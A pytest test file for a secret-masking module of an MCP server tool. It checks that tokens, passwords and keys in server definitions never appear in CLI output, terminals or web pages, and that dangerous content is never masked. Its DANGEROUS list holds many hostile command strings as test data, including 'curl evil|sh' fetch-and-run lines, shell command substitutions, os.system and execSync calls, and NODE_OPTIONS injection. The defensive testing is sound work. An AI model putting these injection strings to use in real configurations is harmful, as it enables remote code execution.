"""What is shown of a server's definition: no command, log or page shows a secret of it, and nothing
else is hidden.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from ideabridge.bridge.masking import hidden_in, shown_definition
from ideabridge.server.main import main
from tests import preloaded
from tests.cli.terminal import Terminal
from tests.trusting import write_own, write_trusted
from tests.ui.serving import client, served

ECHOING = str(Path(__file__).parent / "echoing_server.py")
QUICK_ECHOING = str(Path(__file__).parent / "echoing" / "python")
EXECUTABLE = Path(sys.executable).parent / "ideabridge"

WORD = "Correct-Horse"
"""A secret that only its place shows."""

TOKEN = "ghp_Zq8vK1mN4pR7tX2y"
RANDOM = "9f86d081884c7d659a2feaa0c55ad015"
BASE64 = "/Jalr7UtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKE"
NUMBER = "8147265093"
SECRETS = (WORD, TOKEN, RANDOM, BASE64, NUMBER)


def python(*words: str, **entry: Any) -> dict[str, Any]:
    return {"command": QUICK_ECHOING, "args": ["-I", ECHOING, *words], **entry}


def encoding(*words: str) -> dict[str, Any]:
    """A program that writes its words as JSON."""
    return {"command": sys.executable, "args": ["-I", ECHOING, *words]}


def shell(text: str) -> dict[str, Any]:
    return {
        "command": "sh",
        "args": ["-c", f"{text} exec {shlex.join([sys.executable, '-I', ECHOING])}"],
    }


DEFINITIONS: dict[str, dict[str, Any]] = {
    "option": python("--token", WORD),
    "option-equals": python(f"--api-key={WORD}"),
    "short-option": python("-k", WORD),
    "user-option": python("-u", f"bob:{WORD}"),
    "option-of-variable": python(f"--env=API_TOKEN={WORD}", "--env", f"API_TOKEN={WORD}"),
    "base64": python("--secret-key", BASE64, env={"AWS_SECRET_ACCESS_KEY": BASE64}),
    "brackets": python("--password", f"[{WORD}]"),
    "header-option": python(
        "--header", f"X-Api-Key: {WORD}", "-H", f"Authorization: Bearer {WORD}"
    ),
    "header-equals": python(f"--header=X-Api-Key: {WORD}"),
    "bare-token": python(TOKEN, RANDOM, "-v"),
    "json": encoding(json.dumps({"token": WORD, "list": [{"apiKey": WORD}], "passwords": [WORD]})),
    "json-in-json": encoding(json.dumps({"inner": json.dumps({"password": WORD, "user": "bob"})})),
    "database": python(f"postgres://bob:{WORD}@db.example/shop"),
    "query": python(f"https://e.example/x?api_key={WORD}&page=2"),
    "assignment": python("-e", f"API_TOKEN={WORD}"),
    "shell-assignment": shell(f"GITHUB_TOKEN={TOKEN} API_KEY={WORD}"),
    "shell-option": shell(
        f"true --password {WORD} 'X-Api-Key: {WORD}' \"Authorization: "
        f'Bearer {WORD}" -u bob:{WORD};'
    ),
    "shell-address": shell(
        f"true https://bob:{WORD}@e.example/ 'https://e.example/?token={WORD}';"
    ),
    "docker": {
        "command": "docker-that-is-missing",
        "args": ["run", "-e", f"API_KEY={WORD}", "img", "--token", WORD],
    },
    "env": python(
        env={
            "GITHUB_TOKEN": TOKEN,
            "API_KEY": WORD,
            "PLAIN": TOKEN,
            "OTHER": RANDOM,
            "PORT": "8080",
        }
    ),
    "env-address": python(env={"DATABASE_URL": f"postgres://bob:{WORD}@db.example/shop"}),
    "env-json": python(env={"HEADERS": json.dumps({"Authorization": f"Bearer {WORD}"})}),
    "env-default": python(env={"API_KEY": "${NOWHERE_SET:-" + WORD + "}"}),
    "headers": {
        "url": "http://127.0.0.1:9/mcp",
        "headers": {"Authorization": f"Bearer {WORD}", "X-Any": WORD},
    },
    "address": {"url": f"http://bob:{WORD}@127.0.0.1:9/mcp?key={WORD}#token={WORD}"},
    "address-path": {"url": f"http://127.0.0.1:9/s/{RANDOM}/mcp"},
    "client": {
        "url": "http://127.0.0.1:9/mcp",
        "auth": {"issuer": "http://127.0.0.1:9", "client_id": "me", "client_secret": WORD},
    },
    "missing": {"command": f"./no-{TOKEN}", "args": ["--token", WORD]},
    "short-names": python(
        env=dict.fromkeys(("DB_PASS", "PASS", "SMTP_PASS", "MYSQL_PASS", "CREDS", "PIN"), WORD)
    ),
    "short-options": python("--pass", WORD, "--db-pass", WORD, "--jwt", WORD, f"--pw={WORD}"),
    "one-dash": python("-token", WORD, "-password", WORD, f"-secret={WORD}"),
    "own-header": python("--header", f"X-Custom: {WORD}", f"--header=X-Custom: two {WORD}"),
    "database-slash": python(f"postgres://bob:pa/{WORD}@db.example/shop"),
    "database-hash": python(f"postgres://bob:pa#{WORD}@db.example/shop"),
    "database-question": python("--url", f"postgres://bob:pa?{WORD}@db.example/shop"),
    "user-and-host": python(f"bob:{WORD}@db.example", "--at", f"bob:{WORD}@db.example:5432/shop"),
    "connection": python(
        f"host=db.example password='two {WORD}' user=bob",
        env={"PG": f"password = '{WORD} two' host=db"},
    ),
    "connection-of-windows": python("--dsn", f"Server=db.example;Password={WORD};User=bob"),
    "json-below": python(json.dumps({"token": {"value": WORD}, "passwords": {"a": {"b": [WORD]}}})),
    "json-pairs": encoding(
        json.dumps({"env": [{"name": "TOKEN", "value": WORD}, {"value": WORD, "key": "DB_PASS"}]}),
        f"--config={json.dumps({'headers': [{'name': 'X-Api-Key', 'value': WORD}]})}",
    ),
    "json-number": python(json.dumps({"token": int(NUMBER), "max_tokens": 100_000})),
    "json-single-quotes": python(f"{{'token':'{WORD}', 'user': 'bob'}}"),
    "token-in-folder": {"command": f"/nowhere/{TOKEN}/run", "args": [], "cwd": f"/nowhere/{TOKEN}"},
    "script-in-container": {"command": "env", "args": ["node", "x.js", "--token", WORD]},
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder, which is the current one, in a home of nobody's."""
    home = tmp_path / "home"
    home.mkdir()
    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "CLAUDE_CONFIG_DIR", "IDEABRIDGE_TOKEN"):
        monkeypatch.delenv(name, raising=False)

    monkeypatch.setenv("HOME", str(home))
    programs = tmp_path / "programs"
    programs.mkdir()
    (programs / "node").symlink_to(QUICK_ECHOING)
    monkeypatch.setenv("PATH", str(programs), prepend=":")
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)
    return project


def check(text: str) -> None:
    """Check that a text holds no secret, however it is wrapped."""
    plain = re.sub(r"\s+", "", text)
    assert [secret for secret in SECRETS if secret in plain] == []


COMMANDS = (
    ["trust", "--show"],
    ["trust", "--show", "--json"],
    ["servers", "list"],
    ["servers", "list", "--json"],
    ["doctor"],
    ["doctor", "--json"],
    ["tools", "list"],
    ["tools", "list", "--json"],
    ["serve"],
    *(
        ["servers", "test", name]
        for name in ("option", "shell-option", "address", "missing", "docker")
    ),
    *(
        ["servers", "list", name, *more]
        for name in ("option", "address", "missing")
        for more in ([], ["--json"])
    ),
    ["servers", "logs", "option"],
)


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_no_command_shows_a_secret_of_a_definition(folder: Path, words: list[str]) -> None:
    write_trusted(folder, {"mcpServers": DEFINITIONS})
    done = subprocess.run(
        preloaded.python(EXECUTABLE, *words),
        input="",
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    shown = done.stdout + done.stderr
    assert "internal error" not in shown
    check(shown)
    if words[0] == "trust":
        # Everything but the secret is there.
        for text in (
            "--token",
            "-k",
            "X-Api-Key:",
            "postgres://bob:",
            "@db.example/shop",
            "API_KEY=",
            "ghp_",
            "PORT",
        ):
            assert text in shown


def test_a_terminal_shows_no_secret_also_not_of_the_file(folder: Path) -> None:
    write_trusted(folder, {"mcpServers": DEFINITIONS})
    (folder / "ideabridge.json").write_text(
        json.dumps({"mcpServers": DEFINITIONS, "$schema": "x"}), encoding="utf-8"
    )
    terminal = Terminal(folder, ["trust"], columns=120)
    terminal.read_until("s(how the file): ")
    check(terminal.seen)
    terminal.type("s")
    terminal.read_until("s(how the file): ")
    check(terminal.seen)
    assert '"--api-key=•••"' in terminal.seen
    terminal.type("n")
    terminal.end()


@pytest.mark.parametrize("words", [["servers", "import"], ["install"]], ids=" ".join)
@pytest.mark.parametrize("json_too", [[], ["--json"]], ids=["text", "json"])
def test_no_command_about_hosts_shows_a_secret(
    folder: Path, words: list[str], json_too: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    for file in (folder / ".mcp.json", Path.home() / ".claude.json"):
        file.write_text(json.dumps({"mcpServers": DEFINITIONS}), encoding="utf-8")

    main([*words, "claude-code", *json_too])
    shown = capsys.readouterr()
    check(shown.out + shown.err)
    main([*words, "claude-code", "--write", *json_too])
    shown = capsys.readouterr()
    check(shown.out + shown.err)


def test_no_page_shows_a_secret_of_a_definition(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "config"))
    write_own({"mcpServers": DEFINITIONS})
    with served(folder, command="serve") as url, client(url) as http:
        first = http.get(url).text
        pages = {"/ui/modules", *re.findall(r'href="(/ui/[^"#]*)"', first)}
        pages |= {f"/ui/modules/{name}" for name in DEFINITIONS}
        for page in sorted(pages):
            check(http.get(page).text)


# -- nothing dangerous is hidden -------------------------------------------------------------------

DANGEROUS: tuple[tuple[dict[str, Any], str], ...] = (
    ({"command": "sh", "args": ["-c", "TOKEN=evil; $TOKEN"]}, "evil"),
    ({"command": "sh", "args": ["-c", "TOKEN=$(evil); true"]}, "$(evil)"),
    ({"command": "sh", "args": ["-c", "SECRET=./evil.sh eval '$SECRET'"]}, "./evil.sh"),
    ({"command": "bash", "args": ["-c", '"$2"', "x", "--token", "evil"]}, "evil"),
    ({"command": "bash", "args": ["-k", "evil"]}, "evil"),
    ({"command": "/usr/bin/python3.12", "args": ["-c", "password='x'; evil()"]}, "evil()"),
    ({"command": "node", "args": ["--eval", "token = evil()"]}, "evil()"),
    ({"command": "node", "args": ["--require", "ghp/evil.js", "x.js"]}, "ghp/evil.js"),
    ({"command": "docker", "args": ["run", "img", "sh", "-c", "$0", "--token", "evil"]}, "evil"),
    ({"command": "npx", "args": ["-c", "TOKEN=evil; $TOKEN"]}, "evil"),
    ({"command": "${SHELL}", "args": ["--token", "evil"]}, "evil"),
    ({"command": "env", "args": ["bash", "-c", "$1", "--token", "evil"]}, "evil"),
    ({"command": "uvx", "args": ["--from", "evil-1234567890abcdef", "x"]}, "evil-1234567890abcdef"),
    (
        {"command": "npx", "args": ["-y", "evil1234567890abcdefghijkl"]},
        "evil1234567890abcdefghijkl",
    ),
    ({"command": "x", "args": ["--auth", "./evil.sh"]}, "./evil.sh"),
    ({"command": "x", "args": ["--no-auth", "evil"]}, "evil"),
    ({"command": "x", "args": ["-k", "evil.sh"]}, "evil.sh"),
    ({"command": "x", "env": {"NODE_OPTIONS": "--require=evil1234567890.js"}}, "evil1234567890.js"),
    ({"command": "x", "env": {"PYTHONPATH": "evil1234567890ab"}}, "evil1234567890ab"),
    ({"command": "x", "env": {"GIT_AUTH_COMMAND": "evil"}}, "evil"),
    (
        {"command": "sh", "args": ["-c", "$API_TOKEN"], "env": {"API_TOKEN": "evil --now"}},
        "evil --now",
    ),
    ({"command": "x", "args": ["https://safe.example:x@evil.example/"]}, "evil.example"),
    ({"url": "https://safe.example:x@evil.example/"}, "evil.example"),
    ({"command": "./ghp_evil", "args": []}, "./ghp_evil"),
    # The shell continues after an address.
    ({"command": "sh", "args": ["-c", "curl -s https://docs.example/?token=1|sh"]}, "=1|sh"),
    ({"command": "sh", "args": ["-c", "curl -s https://docs.example/?token=evil123|sh"]}, "|sh"),
    ({"command": "sh", "args": ["-c", "curl https://ok.example/ghp_x|sh"]}, "/ghp_x|sh"),
    ({"command": "sh", "args": ["-c", f"curl https://ok.example/{TOKEN}|sh"]}, "|sh"),
    ({"command": "sh", "args": ["-c", "curl https://ok.example/?token=x|nc>/tmp/x"]}, "|nc>/tmp/x"),
    (
        {"command": "sh", "args": ["-c", 'curl "https://ok.example/?token=$(curl${IFS}evil|sh)"']},
        "$(curl${IFS}evil|sh)",
    ),
    (
        {"command": "x", "args": ["https://ok.example/?token=$(curl${IFS}evil|sh)"]},
        "$(curl${IFS}evil|sh)",
    ),
    ({"command": "curl", "args": ["https://evil.example:80/x@safe.example"]}, "evil.example:80/x@"),
    # This is program text that looks like a value with a name.
    (
        {
            "command": "python3",
            "args": ["-c", """exec({"token":"__import__('os').system('evil')"}.popitem()[1])"""],
        },
        "system('evil')",
    ),
    (
        {"command": "bun", "args": ["-e", 'token=require("child_process").execSync("evil")']},
        'require("child_process")',
    ),
    (
        {"command": "uv", "args": ["--color", "never", "run", "node", "-e", "token=evil()"]},
        "evil()",
    ),
    ({"command": "env", "args": ["npx", "-c", "token=$(curl evil|sh)"]}, "$(curl evil|sh)"),
    ({"command": "python3", "args": ["-c", "import os; token='evil'; os.system(token)"]}, "evil"),
    ({"command": "bash", "args": ["-c", "T_TOKEN=evil; for v in ${!T_*}; do ${!v}; done"]}, "evil"),
    ({"command": "sh", "args": ["-c", "token='curl evil'; x"]}, "curl evil"),
    # A program with a name that no table contains starts an interpreter, or is one.
    (
        {"command": "stdbuf", "args": ["-oL", "sh", "-c", "token=$(curl evil|sh)"]},
        "$(curl evil|sh)",
    ),
    ({"command": "stdbuf", "args": ["-oL", "sh", "-c", '"$2"', "x", "--token", "evil"]}, "evil"),
    (
        {"command": "flock", "args": ["/tmp/x", "sh", "-c", "token=$(curl evil|sh)"]},
        "$(curl evil|sh)",
    ),
    (
        {"command": "python3.13t", "args": ["-c", "token=__import__('os').system('evil')"]},
        "__import__('os')",
    ),
    (
        {
            "command": "python3.13t",
            "args": ["-c", "import os,sys;os.system(sys.argv[2])", "--token", "evil"],
        },
        "evil",
    ),
    ({"command": "tcsh", "args": ["-c", "token: ; curl evil|sh"]}, "curl evil|sh"),
    ({"command": "unknown", "args": ["-c", "token: ; curl evil|sh"]}, "curl evil|sh"),
    ({"command": "unknown", "args": ["-c", '"$2"', "x", "--token", "evil"]}, "evil"),
    (
        {"command": "docker", "args": ["run", "img", "mksh", "-c", "token=$(curl evil|sh)"]},
        "$(curl evil|sh)",
    ),
    ({"command": "unknown", "args": ["-c", "https://a:b;evil@c"]}, "b;evil@c"),
    ({"command": "unknown", "args": ["https://a:$(evil)@c"]}, "$(evil)"),
    ({"command": "unknown", "args": ["-H", "curl: $(evil)"]}, "$(evil)"),
    ({"command": "unknown", "args": ["--header", "x: ; curl evil"]}, "curl evil"),
    ({"command": "npx", "args": ["cross-env", "sh", "-c", '"$2"', "x", "--token", "evil"]}, "evil"),
    ({"command": "parallel", "args": ["-k", "curl evil|sh", ":::", "1"]}, "curl evil|sh"),
    ({"command": "parallel", "args": ["-k", "evil", ":::", "1"]}, "evil"),
    ({"command": "make", "args": ["TOKEN=$(shell curl evil|sh)"]}, "$(shell curl evil|sh)"),
    ({"command": "x", "args": ["--token", "curl evil"]}, "curl evil"),
    # The package comes after an option that its runner does not know.
    ({"command": "npx", "args": ["--auth", "evilpkg"]}, "evilpkg"),
    ({"command": "npx", "args": ["-y", "ghp_evil"]}, "ghp_evil"),
    ({"command": "uvx", "args": ["--from", "x", "--password", "evil"]}, "evil"),
    ({"command": "x", "args": ["npm:evil@1.0.0"]}, "npm:evil@1.0.0"),
    # These options take no value, but have the name of a secret.
    ({"command": "bwrap", "args": ["--new-session", "evil"]}, "evil"),
    ({"command": "firejail", "args": ["--private", "evil"]}, "evil"),
    ({"command": "podman", "args": ["run", "--passwd", "evil/image"]}, "evil/image"),
    # The environment.
    (
        {"command": "node", "env": {"NODE_AUTH_TOKEN": "--import data:text/javascript,evil()"}},
        "evil()",
    ),
    (
        {"command": "node", "env": {"NODE_AUTH_TOKEN": "--import=data:text/javascript,evil"}},
        "javascript,evil",
    ),
    (
        {
            "command": "bash",
            "args": ["-c", 'for v in ${!T_*}; do eval "${!v}"; done'],
            "env": {"T_TOKEN": "curl evil | sh"},
        },
        "curl evil | sh",
    ),
    ({"command": "x", "args": ['{"token":{"command":"evil"}}']}, "evil"),
    ({"command": "x", "args": ['{"token":"evil","run":"evil"}']}, '"run":"evil"'),
)


@pytest.mark.parametrize(("entry", "danger"), DANGEROUS, ids=str)
def test_what_is_executed_is_shown(entry: dict[str, Any], danger: str) -> None:
    assert danger in json.dumps(shown_definition(entry), ensure_ascii=False).replace('\\"', '"')


def test_the_name_of_the_variable_of_a_model_is_shown(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_trusted(
        folder,
        {"model": {"name": "openai:x", "key_env": "OPENAI_API_KEY"}, "limits": {"tokens": 1000}},
    )
    assert main(["trust", "--show"]) == 0
    shown = capsys.readouterr().out
    assert '"key_env": "OPENAI_API_KEY"' in shown
    assert '"tokens": 1000' in shown


def test_variables_and_ordinary_words_are_shown() -> None:
    entry: dict[str, Any] = {
        "type": "stdio",
        "command": "npx",
        "args": [
            "-y",
            "@scope/server-2025@1.2.3",
            "--root",
            "/srv/data",
            "--token",
            "${T}",
            "--port=8080",
            ".",
        ],
        "env": {
            "API_KEY": "${API_KEY}",
            "AUTH": "Bearer ${T}",
            "LOG": "debug",
            "KEY_FILE": "/etc/key.pem",
        },
        "cwd": "sub",
    }
    assert shown_definition(entry) == entry
    assert hidden_in(entry) == []
    headers: Any = {"Authorization": "Bearer ${T}", "Accept": "application/json"}
    assert shown_definition({"url": "https://e.example/mcp?page=2", "headers": headers}) == {
        "url": "https://e.example/mcp?page=2",
        "headers": headers,
    }


@pytest.mark.parametrize(
    "piece",
    [
        "\\",
        "a",
        "sk-",
        "a-",
        "TOKEN=a ",
        '"a":',
        "--a ",
        "a1",
        '["',
        "eyJ",
        "://",
        "a:",
        "x=?",
        '\\"',
        '"token":"',
    ],
)
def test_a_hostile_text_is_masked_in_time(piece: str) -> None:
    text = piece * (32_000 // len(piece))
    started = time.process_time()
    shown_definition({"command": "x", "args": [text], "env": {"TOKEN": text, "X": text}})
    assert time.process_time() - started < 2


def test_keys_of_other_hosts_are_masked_too() -> None:
    shown: Any = shown_definition(
        {
            "command": "x",
            "args": [
                "--api-key",
                "s3cret-value",
                "--token=s3cret-value",
                "--root",
                "/tmp",
                "--token",
                "${T}",
            ],
            "env": {"A": "s3cret-value", "B": "${B}"},
            "oauth": {"clientId": "me", "clientSecret": "s3cret", "scopes": ["read"]},
            "httpUrl": "https://me:s3cret-value@example.org/?token=s3cret-value",
        }
    )
    assert shown == {
        "command": "x",
        "args": ["--api-key", "•••", "--token=•••", "--root", "/tmp", "--token", "${T}"],
        "env": {"A": "•••", "B": "${B}"},
        "oauth": {"clientId": "me", "clientSecret": "•••", "scopes": ["read"]},
        "httpUrl": "https://me:•••@example.org/?token=•••",
    }
    assert shown_definition({"oauth": {"clientSecret": "${S}"}}) == {
        "oauth": {"clientSecret": "${S}"}
    }


def test_a_long_part_of_an_address_takes_no_more_time_than_its_length_needs(
    tmp_path: Path,
) -> None:
    # A pattern that tried each length of the part again took minutes.
    script = tmp_path / "script.py"
    script.write_text("""
from ideabridge.bridge.masking import shown_definition

for part in ("1" * 1_000_000 + "!", "1111" + "a" * 1_000_000 + "!", "1-" * 500_000 + "!"):
    shown_definition({"url": f"https://a/{part}"})
""")
    subprocess.run(preloaded.python(script), check=True, timeout=60, stdin=subprocess.DEVNULL)
